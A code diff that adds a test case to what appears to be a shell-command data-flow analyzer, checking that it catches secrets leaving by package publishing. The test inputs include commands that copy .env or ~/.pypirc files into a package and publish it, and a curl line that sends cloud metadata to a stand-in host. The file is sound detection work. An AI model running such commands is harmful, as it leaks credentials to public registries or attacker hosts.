@@ -523,3 +523,18 @@ TEST_CASE("credentials fetched from the cloud metadata service are secrets on th
   CHECK_FALSE(has_flow_to(analyze("curl -s http://169.254.169.254/latest/meta-data/instance-id"), "network"));
   CHECK_FALSE(secret_leaves(analyze("curl -s https://x.example.com/c -d \"$(curl -s http://169.254.169.254/latest/meta-data/instance-id)\"")));
 }
+
+TEST_CASE("a secret written into a package goes out with npm publish or twine upload") {
+  for (const char* script : {"cp .env dist/env.txt && npm publish dist", "cp .env ./env.txt && npm publish",
+                             "cp .env pkg/ && pnpm publish pkg --no-git-checks",
+                             "cp ~/.pypirc dist/x && twine upload dist/*"}) {
+    CAPTURE(script);
+    CHECK(has_flow(analyze(script), "credential_file", "network"));
+  }
+  CHECK(has_flow(analyze("env > build/env.txt && npm publish --access public"), "env_dump", "network"));
+  auto registry = analyze("cp .env pkg/ && npm publish pkg --registry https://npm.x.example.com");
+  CHECK(std::find(registry.hosts.begin(), registry.hosts.end(), "npm.x.example.com") != registry.hosts.end());
+  CHECK_FALSE(has_flow_to(analyze("npm publish"), "network"));
+  CHECK_FALSE(has_flow_to(analyze("cp README.md dist/ && npm publish dist"), "network"));
+  CHECK_FALSE(has_flow_to(analyze("cp .env /tmp/backup.env && npm publish dist"), "network"));
+}
